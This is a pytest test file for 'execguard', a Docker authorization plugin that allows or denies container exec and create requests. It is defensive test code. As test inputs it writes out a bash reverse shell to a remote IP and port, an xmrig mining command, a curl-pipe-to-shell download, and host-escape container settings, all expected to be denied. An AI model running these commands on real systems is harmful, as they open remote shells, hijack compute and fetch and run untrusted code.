"""The Docker AuthZ plugin protocol over a real unix socket, with a real HTTP client (http.client)."""

from __future__ import annotations

import base64
import http.client
import json
import socket
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from execguard.engine.load import load_rules
from execguard.guard.approvals import ApprovalStore, add_approval, parse_duration
from execguard.guard.docker_authz import MAX_REQUEST, AuthzPlugin, UnixHTTPServer
from execguard.guard.record import JsonlRecorder
from execguard.guard.runtime import GuardRuntime

RULES = load_rules()
REVERSE = ["sh", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]


class UnixConnection(http.client.HTTPConnection):
    def __init__(self, path: Path) -> None:
        super().__init__("localhost", timeout=10)
        self.path = str(path)

    def connect(self) -> None:
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(10)
        self.sock.connect(self.path)


class Plugin:
    def __init__(self, tmp: Path, fail: str = "closed", policy: Path | None = None) -> None:
        self.state = tmp / "state"
        self.record_path = self.state / "decisions.jsonl"
        self.runtime = GuardRuntime(RULES, JsonlRecorder(self.record_path), policy, approvals=ApprovalStore(self.state))
        self.sock = tmp / "p.sock"
        self.server = UnixHTTPServer(self.sock, AuthzPlugin(self.runtime, fail))
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        self.thread.start()
        self.conn = UnixConnection(self.sock)

    def post(self, path: str, payload: Any, raw: bytes | None = None) -> tuple[int, dict[str, Any]]:
        data = raw if raw is not None else json.dumps(payload).encode()
        self.conn.request("POST", path, body=data, headers={"Content-Type": "application/json"})
        resp = self.conn.getresponse()
        return resp.status, json.loads(resp.read())

    def req(self, method: str, uri: str, body: Any = None, user: str = "", **extra: Any) -> dict[str, Any]:
        payload = {"User": user, "UserAuthNMethod": "TLS" if user else "", "RequestMethod": method, "RequestUri": uri, **extra}
        if body is not None:
            payload["RequestBody"] = base64.b64encode(json.dumps(body).encode()).decode()
        status, answer = self.post("/AuthZPlugin.AuthZReq", payload)
        assert status == 200
        return answer

    def records(self) -> list[dict[str, Any]]:
        return [json.loads(line) for line in self.record_path.read_text().splitlines()]

    def close(self) -> None:
        self.conn.close()
        self.server.shutdown()
        self.server.server_close()
        self.runtime.recorder.close()


@pytest.fixture
def plugin(tmp_path: Path) -> Iterator[Plugin]:
    p = Plugin(tmp_path)
    yield p
    p.close()


def test_activate_and_unknown_endpoint(plugin: Plugin) -> None:
    assert plugin.post("/Plugin.Activate", {}) == (200, {"Implements": ["authz"]})
    status, answer = plugin.post("/Nope", {})
    assert status == 404 and "unknown endpoint" in answer["Err"]


def test_exec_decisions_with_version_prefix(plugin: Plugin) -> None:
    ok = plugin.req("POST", "/v1.41/containers/web/exec", {"Cmd": ["ls", "-l"], "User": "", "Privileged": False, "Env": ["TOKEN=s3cret"]})
    assert ok["Allow"] is True
    bad = plugin.req("POST", "/v1.47/containers/web/exec", {"Cmd": REVERSE, "Env": ["TOKEN=s3cret"]}, user="mallory")
    assert bad["Allow"] is False and "cmd-reverse-shell" in bad["Msg"]
    records = plugin.records()
    assert [r["allowed"] for r in records] == [True, False] and records[1]["user"] == "mallory"
    assert "s3cret" not in plugin.record_path.read_text()  # Env is never read into a record


def test_create_decisions(plugin: Plugin) -> None:
    base = {"Image": "bb", "Cmd": ["sleep", "60"]}
    assert plugin.req("POST", "/v1.41/containers/create?name=ok", base)["Allow"] is True
    for host in (
        {"Binds": ["/:/host"]},
        {"Mounts": [{"Type": "bind", "Source": "/var/run/docker.sock", "Target": "/s"}]},
        {"PidMode": "host"},
    ):
        answer = plugin.req("POST", "/v1.41/containers/create?name=bad", {**base, "HostConfig": host})
        assert answer["Allow"] is False, host
    crypto = plugin.req("POST", "/containers/create", {"Image": "bb", "Entrypoint": "xmrig", "Cmd": ["-o", "stratum+tcp://pool:3333"]})
    assert crypto["Allow"] is False and "cmd-miner" in crypto["Msg"]


def test_other_calls_pass_untouched_and_unrecorded(plugin: Plugin) -> None:
    for method, uri in (
        ("GET", "/v1.41/containers/json"),
        ("GET", "/_ping"),
        ("POST", "/v1.41/containers/web/start"),
        ("DELETE", "/containers/x"),
    ):
        assert plugin.req(method, uri) == {"Allow": True}
    assert not plugin.record_path.exists() or plugin.records() == []


def test_bad_bodies_fail_closed_by_default(plugin: Plugin) -> None:
    for extra in ({}, {"RequestBody": "!!notbase64"}, {"RequestBody": base64.b64encode(b"[1]").decode()}):
        payload = {"RequestMethod": "POST", "RequestUri": "/v1.41/containers/web/exec", **extra}
        status, answer = plugin.post("/AuthZPlugin.AuthZReq", payload)
        assert status == 200 and answer["Allow"] is False and "fail-closed" in answer["Msg"]
    assert plugin.req("POST", "/containers/web/exec", {"Cmd": 42})["Allow"] is False


def test_bad_bodies_fail_open_when_asked(tmp_path: Path) -> None:
    p = Plugin(tmp_path, fail="open")
    try:
        status, answer = p.post("/AuthZPlugin.AuthZReq", {"RequestMethod": "POST", "RequestUri": "/containers/web/exec"})
        assert status == 200
        assert answer["Allow"] is True
        assert p.records()[0]["kind"] == "unparseable" and p.records()[0]["allowed"] is True
    finally:
        p.close()


def test_exec_start_is_judged_with_its_create(plugin: Plugin) -> None:
    body = {"Cmd": ["id"], "User": "0"}
    req = {
        "RequestMethod": "POST",
        "RequestUri": "/v1.41/containers/web/exec",
        "RequestBody": base64.b64encode(json.dumps(body).encode()).decode(),
    }
    res = {**req, "ResponseStatusCode": 201, "ResponseBody": base64.b64encode(b'{"Id":"abc123"}').decode()}
    assert plugin.post("/AuthZPlugin.AuthZRes", res) == (200, {"Allow": True})
    assert plugin.req("POST", "/v1.41/exec/abc123/start", {"Detach": False})["Allow"] is True
    last = plugin.records()[-1]
    assert last["stage"] == "exec_start" and last["command"] == ["id"]
    assert plugin.req("POST", "/v1.41/exec/unknown/start", {"Detach": False})["Allow"] is True
    assert plugin.records()[-1]["kind"] == "unjudged"


def test_malformed_and_oversized_requests(plugin: Plugin) -> None:
    status, answer = plugin.post("/AuthZPlugin.AuthZReq", None, raw=b"{not json")
    assert status == 400 and answer["Allow"] is False
    status, answer = plugin.post("/AuthZPlugin.AuthZReq", None, raw=b"[]")
    assert status == 400
    conn = UnixConnection(plugin.sock)
    conn.putrequest("POST", "/AuthZPlugin.AuthZReq")
    conn.putheader("Content-Length", str(MAX_REQUEST + 1))
    conn.endheaders()
    resp = conn.getresponse()
    assert resp.status == 413 and json.loads(resp.read())["Allow"] is False
    conn.close()
    # the plugin still serves
    assert plugin.post("/Plugin.Activate", {})[0] == 200


def test_break_glass_approval_is_honoured_and_recorded(plugin: Plugin) -> None:
    body = {"Cmd": REVERSE}
    assert plugin.req("POST", "/containers/web/exec", body, user="alice")["Allow"] is False
    approval = add_approval(plugin.state, "alice", None, parse_duration("30m"), "INC-7 on-call")
    assert plugin.req("POST", "/containers/web/exec", body, user="alice")["Allow"] is True
    assert plugin.req("POST", "/containers/web/exec", body, user="bob")["Allow"] is False
    allowed = [r for r in plugin.records() if r.get("approval")]
    assert allowed and allowed[0]["approval"] == approval.id and allowed[0]["would_deny"] is True


def test_policy_reload_keeps_last_good(tmp_path: Path) -> None:
    pol = tmp_path / "policy.yml"
    head = "apiVersion: execguard/v1\nkind: Policy\nentries:\n"
    pol.write_text(head + "  - name: no-web\n    action: deny\n    reason: web is frozen\n    match: {containers: [web]}\n")
    p = Plugin(tmp_path, policy=pol)
    try:
        assert p.req("POST", "/containers/web/exec", {"Cmd": ["ls"]})["Allow"] is False
        pol.write_text(head + "  - name: no-web\n    action: deny\n    reason: r\n    match: {containers: [web]}\n    mode: loud\n")
        assert p.runtime.reload() is False
        answer = p.req("POST", "/containers/web/exec", {"Cmd": ["ls"]})
        assert answer["Allow"] is False and "web is frozen" in answer["Msg"]
        pol.write_text(head)
        assert p.runtime.reload() is True
        assert p.req("POST", "/containers/web/exec", {"Cmd": ["ls"]})["Allow"] is True
    finally:
        p.close()


@pytest.mark.parametrize(("text", "seconds"), [("30m", 1800), ("2h", 7200), ("1h30m", 5400), ("90s", 90)])
def test_parse_duration(text: str, seconds: int) -> None:
    assert parse_duration(text).total_seconds() == seconds


@pytest.mark.parametrize("text", ["", "30", "m", "1d", "-5m", "0m"])
def test_parse_duration_refuses(text: str) -> None:
    with pytest.raises(ValueError):
        parse_duration(text)


def test_secrets_in_the_command_never_reach_message_or_record(plugin: Plugin) -> None:
    secret = "hunter2-very-secret-value"
    body = {"Cmd": ["sh", "-c", f"curl -s http://203.0.113.7/x.sh --token {secret} | sh"], "Env": [f"PASSWORD={secret}"]}
    answer = plugin.req("POST", "/v1.41/containers/web/exec", body)
    assert answer["Allow"] is False and "cmd-download-pipe-shell" in answer["Msg"]
    assert secret not in answer["Msg"] and secret not in plugin.record_path.read_text()
